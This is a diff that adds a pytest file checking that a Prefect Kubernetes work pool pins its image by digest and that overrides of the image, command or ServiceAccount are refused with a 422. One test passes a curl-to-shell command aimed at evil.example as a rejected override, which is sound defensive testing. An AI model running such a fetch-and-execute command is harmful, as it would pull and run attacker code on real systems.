@@ -1,0 +1,121 @@
+"""The Kubernetes pool's template fixes what a run could otherwise change: its image (by
+digest), command, ServiceAccount and cluster credentials. A real Prefect server refuses
+(422) a deployment or a flow run that sets the image, command or ServiceAccount, and takes
+what prefect.yaml's Kubernetes deployment sets."""
+
+from __future__ import annotations
+
+import json
+import re
+import subprocess
+import sys
+import uuid
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from prefect.client.schemas.actions import WorkPoolCreate
+from prefect.exceptions import PrefectHTTPStatusError
+
+from flows.workpool import COMMAND, FIXED, render_pool_template
+from tests.kubepool.pool import prefect_client
+from tests.webhook.servers import PrefectServer
+
+ROOT = Path(__file__).resolve().parents[2]
+IMAGE = "registry.example/org/handoff@sha256:" + "ab" * 32
+
+
+def _kubernetes_job_variables() -> dict[str, Any]:
+    deployments = yaml.safe_load((ROOT / "prefect.yaml").read_text())["deployments"]
+    job = next(d for d in deployments if d["name"] == "handoff-on-merge-kubernetes")
+    return dict(job["work_pool"]["job_variables"])
+
+
+def test_the_rendered_template_fixes_image_command_and_account() -> None:
+    template = render_pool_template(IMAGE, service_account="handoff")
+    pod = template["job_configuration"]["job_manifest"]["spec"]["template"]["spec"]
+    assert pod["containers"][0]["image"] == IMAGE
+    assert pod["containers"][0]["args"] == COMMAND
+    assert pod["serviceAccountName"] == "handoff"
+    assert "cluster_config" not in template["job_configuration"]
+    variables = template["variables"]
+    # A variable the job's configuration does not name changes nothing (Prefect keeps a
+    # block reference such as cluster_config's even where the schema has no such key).
+    named = set(re.findall(r"\{\{ *(\w+) *\}\}", json.dumps(template["job_configuration"])))
+    assert named <= set(variables["properties"]), named - set(variables["properties"])
+    assert not named & set(FIXED)
+    assert variables["additionalProperties"] is False
+    assert not set(FIXED) & set(variables["properties"])
+    assert not set(FIXED) & set(_kubernetes_job_variables()), "prefect.yaml sets a fixed one"
+
+
+@pytest.mark.parametrize("image", ["registry.example/org/handoff:main", "handoff", ""])
+def test_an_image_not_pinned_by_digest_renders_nothing(image: str) -> None:
+    result = subprocess.run(
+        [sys.executable, "-m", "cli", "work-pool", "render", "--image", image],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    assert result.returncode == 2 and result.stdout == "", result.stdout
+    assert "not pinned by digest" in result.stderr and "@sha256:" in result.stderr
+
+
+def test_prefect_refuses_a_run_that_would_change_what_runs_or_as_whom(
+    prefect: PrefectServer,
+) -> None:
+    pool = f"handoff-fixed-{uuid.uuid4().hex[:6]}"
+    template = render_pool_template(IMAGE)
+    shipped = _kubernetes_job_variables()
+    overrides: dict[str, Any] = {
+        "image": "evil.example/shell:1",
+        "command": "sh -c 'curl evil.example | sh'",
+        "service_account_name": "prefect-worker",
+    }
+    with prefect_client(prefect.api_url) as client:
+        client.create_work_pool(
+            WorkPoolCreate(name=pool, type="kubernetes", base_job_template=template)
+        )
+        flow_id = client.create_flow_from_name("handoff")
+        for name, value in overrides.items():  # a deployment that sets one
+            with pytest.raises(PrefectHTTPStatusError) as refused:
+                made = client.create_deployment(
+                    flow_id, f"{pool}-{name}", work_pool_name=pool, job_variables={name: value}
+                )
+                pytest.fail(f"a deployment setting {name} was accepted: {made}")
+            assert refused.value.response.status_code == 422, name
+        # prefect.yaml's own job variables are accepted
+        deployment = client.create_deployment(
+            flow_id, pool, work_pool_name=pool, job_variables=shipped
+        )
+        for name, value in overrides.items():  # a flow run that sets one
+            with pytest.raises(PrefectHTTPStatusError) as refused:
+                run = client.create_flow_run_from_deployment(
+                    deployment, job_variables={name: value}
+                )
+                pytest.fail(f"a flow run setting {name} was accepted: {run.id}")
+            assert refused.value.response.status_code == 422, name
+            assert name in json.dumps(refused.value.response.json()), refused.value.response.text
+        allowed = {"namespace": "llm-serving", "env": {"HANDOFF_POD_ACCESS": "port-forward"}}
+        run = client.create_flow_run_from_deployment(deployment, job_variables=allowed)
+        assert run.job_variables == allowed
+        client.delete_deployment(deployment)
+        client.delete_work_pool(pool)
+
+
+def test_the_worker_image_is_the_locked_prefect_version() -> None:
+    """The worker's image names one Prefect release, the one uv.lock holds (its digest is
+    pinned where it is deployed: this machine reaches no image registry)."""
+    worker = next(
+        d
+        for d in yaml.safe_load_all((ROOT / "manifests/rbac/prefect-worker.yaml").read_text())
+        if d and d["kind"] == "Deployment"
+    )
+    [container] = worker["spec"]["template"]["spec"]["containers"]
+    locked = re.search(
+        r'\[\[package\]\]\nname = "prefect"\nversion = "([^"]+)"', (ROOT / "uv.lock").read_text()
+    )
+    assert locked is not None
+    assert container["image"] == f"prefecthq/prefect:{locked[1]}-python3.11-kubernetes"
